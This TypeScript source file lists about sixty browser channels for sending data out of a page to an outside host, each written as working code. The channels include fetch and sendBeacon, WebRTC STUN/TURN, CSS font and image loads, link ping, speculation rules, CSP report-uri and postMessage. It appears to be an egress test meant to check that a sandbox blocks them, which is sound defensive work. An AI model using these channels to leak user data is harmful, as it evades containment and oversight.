/** From the page to a stranger. */
import type { Way } from "./way.js";

/** The element that a person is brought to click on; it lies over everything. */
export const DOOR = "egress-door";

export const PAGE_WAYS: Way[] = [
  { name: "`fetch`", attempt: ({ url }) => fetch(url) },
  {
    name: "`fetch` that wants no answer",
    attempt: ({ url }) => fetch(url, { method: "POST", mode: "no-cors", body: "holdings" }),
  },
  {
    name: "`fetch` that outlives the page (`keepalive`)",
    attempt: ({ url }) => fetch(url, { method: "POST", mode: "no-cors", body: "holdings", keepalive: true }),
  },
  {
    name: "`fetchLater`",
    attempt: ({ url }) =>
      (globalThis as unknown as { fetchLater: (url: string, init: object) => unknown }).fetchLater(url, {
        activateAfter: 0,
      }),
  },
  {
    name: "`XMLHttpRequest`",
    attempt: ({ url }) => {
      const request = new XMLHttpRequest();
      request.open("GET", url);
      request.send();
    },
  },
  { name: "beacon", attempt: ({ url }) => navigator.sendBeacon(url, "holdings") },
  { name: "WebSocket", attempt: ({ url }) => new WebSocket(url.replace("http", "ws")) },
  {
    name: "WebTransport (QUIC)",
    attempt: ({ url }) =>
      new (globalThis as unknown as { WebTransport: new (url: string) => unknown }).WebTransport(
        url.replace("http:", "https:"),
      ),
  },
  { name: "EventSource", attempt: ({ url }) => new EventSource(url) },
  {
    name: "WebRTC: STUN, a UDP packet to any address",
    attempt: async ({ machine, port }) => {
      const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:${machine}:${String(port)}` }] });
      peer.createDataChannel("holdings");
      await peer.setLocalDescription(await peer.createOffer());
    },
  },
  {
    name: "WebRTC: TURN over TCP, with a user name of the sender's choice",
    attempt: async ({ machine, port }) => {
      const urls = `turn:${machine}:${String(port)}?transport=tcp`;
      const peer = new RTCPeerConnection({ iceServers: [{ urls, username: "holdings", credential: "holdings" }] });
      peer.createDataChannel("holdings");
      await peer.setLocalDescription(await peer.createOffer());
    },
  },
  {
    name: "image",
    attempt: ({ url }) => {
      new Image().src = url;
    },
  },
  {
    name: "image by `srcset`",
    attempt: ({ url }) => {
      new Image().srcset = `${url} 2x, ${url} 1x`;
    },
  },
  {
    name: "`<picture>`",
    attempt: ({ url }) => {
      const picture = document.createElement("picture");
      const source = document.createElement("source");
      source.srcset = url;
      picture.append(source, document.createElement("img"));
      document.body.append(picture);
    },
  },
  {
    name: "`<input type=image>`",
    attempt: ({ url }) => {
      const input = document.createElement("input");
      input.type = "image";
      input.src = url;
      document.body.append(input);
    },
  },
  {
    name: "`<audio>`",
    attempt: ({ url }) => {
      new Audio(url).load();
    },
  },
  {
    name: "`<video>`",
    attempt: ({ url }) => {
      const video = document.createElement("video");
      video.src = url;
      document.body.append(video);
    },
  },
  {
    name: "a video's picture (`poster`)",
    attempt: ({ url }) => {
      const video = document.createElement("video");
      video.poster = url;
      document.body.append(video);
    },
  },
  {
    name: "a video's text (`<track>`)",
    attempt: ({ url }) => {
      const video = document.createElement("video");
      video.crossOrigin = "anonymous";
      const track = document.createElement("track");
      track.default = true;
      track.src = url;
      video.append(track);
      document.body.append(video);
      track.track.mode = "showing";
    },
  },
  {
    name: "`<object>`",
    attempt: ({ url }) => {
      const object = document.createElement("object");
      object.data = url;
      document.body.append(object);
    },
  },
  {
    name: "`<embed>`",
    attempt: ({ url }) => {
      const embed = document.createElement("embed");
      embed.src = url;
      document.body.append(embed);
    },
  },
  {
    name: "SVG `<image>`",
    attempt: ({ url }) => {
      const svg = document.createElementNS("http://www.w3.org/2000/svg", "svg");
      const image = document.createElementNS("http://www.w3.org/2000/svg", "image");
      image.setAttribute("href", url);
      svg.append(image);
      document.body.append(svg);
    },
  },
  {
    name: "SVG `<use>`",
    attempt: ({ url }) => {
      const svg = document.createElementNS("http://www.w3.org/2000/svg", "svg");
      const use = document.createElementNS("http://www.w3.org/2000/svg", "use");
      use.setAttribute("href", `${url}#part`);
      svg.append(use);
      document.body.append(svg);
    },
  },
  {
    name: "SVG filter (`<feImage>`)",
    attempt: ({ url, slug }) => {
      const space = "http://www.w3.org/2000/svg";
      const svg = document.createElementNS(space, "svg");
      const filter = document.createElementNS(space, "filter");
      const image = document.createElementNS(space, "feImage");
      const shape = document.createElementNS(space, "rect");
      filter.id = slug;
      image.setAttribute("href", url);
      shape.setAttribute("width", "10");
      shape.setAttribute("height", "10");
      shape.setAttribute("filter", `url(#${slug})`);
      filter.append(image);
      svg.append(filter, shape);
      document.body.append(svg);
    },
  },
  {
    name: "script",
    attempt: ({ url }) => {
      const script = document.createElement("script");
      script.src = url;
      document.body.append(script);
    },
  },
  {
    name: "module script",
    attempt: ({ url }) => {
      const script = document.createElement("script");
      script.type = "module";
      script.src = url;
      document.body.append(script);
    },
  },
  { name: "dynamic `import()`", attempt: "({ url }) => import(url)" },
  { name: "worker", attempt: ({ url }) => new Worker(url) },
  {
    name: "worker from a `blob:`, which fetches",
    attempt: ({ url }) => {
      const code = `fetch(${JSON.stringify(url)}, { mode: "no-cors" })`;
      return new Worker(URL.createObjectURL(new Blob([code], { type: "text/javascript" })));
    },
  },
  {
    name: "shared worker from a `blob:`, which fetches",
    attempt: ({ url }) => {
      const code = `fetch(${JSON.stringify(url)}, { mode: "no-cors" })`;
      return new SharedWorker(URL.createObjectURL(new Blob([code], { type: "text/javascript" })));
    },
  },
  { name: "worklet", attempt: ({ url }) => new AudioContext().audioWorklet.addModule(url) },
  {
    name: "style sheet",
    attempt: ({ url }) => {
      const link = document.createElement("link");
      link.rel = "stylesheet";
      link.href = url;
      document.head.append(link);
    },
  },
  {
    name: "inline style: `@import`",
    attempt: ({ url }) => {
      const style = document.createElement("style");
      style.textContent = `@import url(${url});`;
      document.head.append(style);
    },
  },
  {
    name: "inline style: `url()`",
    attempt: ({ url }) => {
      const style = document.createElement("style");
      style.textContent = `html { background-image: url(${url}) }`;
      document.head.append(style);
    },
  },
  {
    name: "style set by script: `url()`",
    attempt: ({ url }) => {
      document.body.style.backgroundImage = `url(${url})`;
    },
  },
  {
    name: "adopted style sheet: `url()`",
    attempt: ({ url }) => {
      const sheet = new CSSStyleSheet();
      sheet.replaceSync(`body { list-style-image: url(${url}); display: list-item }`);
      document.adoptedStyleSheets.push(sheet);
    },
  },
  {
    name: "adopted style sheet: `@font-face`",
    attempt: ({ url }) => {
      const sheet = new CSSStyleSheet();
      sheet.replaceSync(`@font-face { font-family: strange; src: url(${url}) } body { font-family: strange }`);
      document.adoptedStyleSheets.push(sheet);
      document.body.append("text to be drawn");
    },
  },
  { name: "font by script", attempt: ({ url }) => new FontFace("x", `url(${url})`).load() },
  {
    name: "`<iframe>`",
    attempt: ({ url }) => {
      const frame = document.createElement("iframe");
      frame.src = url;
      document.body.append(frame);
    },
  },
  {
    name: "`<iframe srcdoc>` with an image in it",
    attempt: ({ url }) => {
      const frame = document.createElement("iframe");
      frame.srcdoc = `<img src="${url}">`;
      document.body.append(frame);
    },
  },
  {
    name: "empty `<iframe>`, and an image made in it",
    attempt: ({ url }) => {
      const frame = document.createElement("iframe");
      document.body.append(frame);
      const image = frame.contentDocument?.createElement("img");
      if (image == null) return;
      image.src = url;
      frame.contentDocument?.body.append(image);
    },
  },
  {
    name: "`<link rel=prefetch>`",
    attempt: ({ url }) => {
      const link = document.createElement("link");
      link.rel = "prefetch";
      link.href = url;
      document.head.append(link);
    },
  },
  {
    name: "`<link rel=preload>`",
    attempt: ({ url }) => {
      const link = document.createElement("link");
      link.rel = "preload";
      link.as = "image";
      link.href = url;
      document.head.append(link);
    },
  },
  {
    name: "`<link rel=modulepreload>`",
    attempt: ({ url }) => {
      const link = document.createElement("link");
      link.rel = "modulepreload";
      link.href = url;
      document.head.append(link);
    },
  },
  {
    name: "`<link rel=preconnect>` (a bare connection)",
    attempt: ({ url }) => {
      const link = document.createElement("link");
      link.rel = "preconnect";
      link.href = url;
      document.head.append(link);
    },
  },
  {
    name: "`<link rel=icon>`",
    attempt: ({ url }) => {
      const link = document.createElement("link");
      link.rel = "icon";
      link.href = url;
      document.head.append(link);
    },
  },
  {
    name: "`<link rel=manifest>`",
    attempt: ({ url }) => {
      document.querySelector("link[rel=manifest]")?.remove();
      const link = document.createElement("link");
      link.rel = "manifest";
      link.href = url;
      document.head.append(link);
    },
  },
  {
    name: "speculation rules: prefetch",
    attempt: ({ url }) => {
      const script = document.createElement("script");
      script.type = "speculationrules";
      script.textContent = JSON.stringify({ prefetch: [{ urls: [url], eagerness: "immediate" }] });
      document.head.append(script);
    },
  },
  {
    name: "speculation rules: prerender",
    attempt: ({ url }) => {
      const script = document.createElement("script");
      script.type = "speculationrules";
      script.textContent = JSON.stringify({ prerender: [{ urls: [url], eagerness: "immediate" }] });
      document.head.append(script);
    },
  },
  {
    name: "XSLT",
    attempt: ({ url }) => {
      const code = `<?xml-stylesheet type="text/xsl" href="${url}"?><x/>`;
      const frame = document.createElement("iframe");
      frame.src = URL.createObjectURL(new Blob([code], { type: "text/xml" }));
      document.body.append(frame);
    },
  },
  {
    name: "a policy of one's own that reports (`report-uri` in a `<meta>`)",
    attempt: ({ url }) => {
      const meta = document.createElement("meta");
      meta.httpEquiv = "Content-Security-Policy";
      meta.content = `media-src 'none'; report-uri ${url}`;
      document.head.append(meta);
      new Audio("data:audio/wav;base64,").load();
    },
    alone: true,
  },
  {
    name: "payment request, whose method is an address",
    attempt: ({ url }) =>
      new PaymentRequest([{ supportedMethods: url.replace("http:", "https:") }], {
        total: { label: "holdings", amount: { currency: "USD", value: "1" } },
      }).canMakePayment(),
  },
  {
    name: "form",
    attempt: ({ url }) => {
      const form = document.createElement("form");
      form.action = url;
      document.body.append(form);
      form.submit();
    },
    alone: true,
  },
  {
    name: "form, in a frame of its own",
    attempt: ({ url }) => {
      const frame = document.createElement("iframe");
      frame.name = "sink";
      const form = document.createElement("form");
      form.action = url;
      form.target = "sink";
      document.body.append(frame, form);
      form.submit();
    },
  },
  {
    name: "link's `ping`",
    attempt: ({ url }) => {
      const link = document.createElement("a");
      link.id = "egress-door";
      link.ping = url;
      link.href = "#elsewhere";
      link.textContent = "Continue";
      document.documentElement.append(link);
    },
    click: true,
  },
  {
    name: "new window (`window.open`), after a click",
    attempt: ({ url }) => {
      const button = document.createElement("button");
      button.id = "egress-door";
      button.textContent = "Continue";
      button.addEventListener("click", () => void window.open(url));
      document.documentElement.append(button);
    },
    click: true,
  },
  {
    name: "link to a new window, after a click",
    attempt: ({ url }) => {
      const link = document.createElement("a");
      link.id = "egress-door";
      link.href = url;
      link.target = "_blank";
      link.textContent = "Continue";
      document.documentElement.append(link);
    },
    click: true,
  },
  {
    name: "link with `download`, followed by script",
    attempt: ({ url }) => {
      const link = document.createElement("a");
      link.href = url;
      link.download = "x";
      document.body.append(link);
      link.click();
    },
    alone: true,
  },
  {
    name: "going there: `location`",
    attempt: ({ url }) => {
      location.href = url;
    },
    alone: true,
  },
  {
    name: "going there: a link, followed by script",
    attempt: ({ url }) => {
      const link = document.createElement("a");
      link.href = url;
      document.body.append(link);
      link.click();
    },
    alone: true,
  },
  {
    name: "going there: `<meta http-equiv=refresh>`",
    attempt: ({ url }) => {
      const meta = document.createElement("meta");
      meta.httpEquiv = "refresh";
      meta.content = `0; url=${url}`;
      document.head.append(meta);
    },
    alone: true,
  },
  {
    name: "`Referer` header, when the page is left for elsewhere",
    attempt: ({ url }) => {
      location.href = url;
    },
    alone: true,
    hears: "where from",
  },
  {
    name: "message to a stranger's page that shows this one in a frame",
    attempt: () => window.parent.postMessage("holdings", "*"),
    alone: true,
    through: "/frames",
    hears: "a message",
  },
  {
    name: "message to a stranger's page that opened this one",
    attempt: () => (window.opener as Window).postMessage("holdings", "*"),
    click: true,
    through: "/opens",
    hears: "a message",
  },
];
